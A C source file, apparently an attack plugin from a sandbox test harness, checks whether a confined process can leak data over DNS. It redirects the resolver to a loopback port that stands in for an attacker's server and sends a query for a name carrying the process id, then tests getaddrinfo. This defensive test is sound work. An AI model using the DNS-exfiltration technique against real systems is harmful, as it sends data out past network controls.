/*
 * net_dns_lookup — resolves names through the C library's resolver: first a
 * query for a name carrying data ("<pid>.sbx-atk-exfil.invalid") sent to a
 * resolver it chooses (the harness's UDP port stands for an attacker's DNS
 * server), then getaddrinfo through the system configuration. DNS is the classic
 * exfiltration channel that slips through networks that block everything else.
 */
#include "attack.h"

#include <arpa/inet.h>
#include <arpa/nameser.h>
#include <netdb.h>
#include <netinet/in.h>
#include <resolv.h>

static sbx_status attack(const atk_input *in, atk_out *out)
{
    long port = atk_param_long(in, "udp_port", -1);
    unsigned char answer[512];
    char name[128];
    int done = 0;
    if (port <= 0 || port > 65535) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    if (res_init() != 0) {
        atk_failed(out, "res_init", errno);
    }
    /* Point the resolver at "our" server: one try, one second. */
    _res.nscount = 1;
    _res.nsaddr_list[0].sin_family = AF_INET;
    _res.nsaddr_list[0].sin_port = htons((uint16_t)port);
    _res.nsaddr_list[0].sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    _res.retry = 1;
    _res.retrans = 1;
    snprintf(name, sizeof name, "%d.sbx-atk-exfil.invalid", (int)getpid());
    errno = 0;
    int len = res_query(name, ns_c_in, ns_t_a, answer, sizeof answer);
    atk_printf(out, "res_query %s -> %d (h_errno %d)\n", name, len, h_errno);
    done |= len > 0;

    struct addrinfo hints;
    struct addrinfo *result = NULL;
    memset(&hints, 0, sizeof hints);
    hints.ai_family = AF_INET;
    int rc = getaddrinfo("localhost", NULL, &hints, &result);
    if (rc == 0) {
        atk_gained(out, "getaddrinfo(localhost) resolved");
        freeaddrinfo(result);
        done = 1;
    } else {
        atk_printf(out, "failed getaddrinfo: %s\n", gai_strerror(rc));
    }
    return done ? SBX_OK : SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
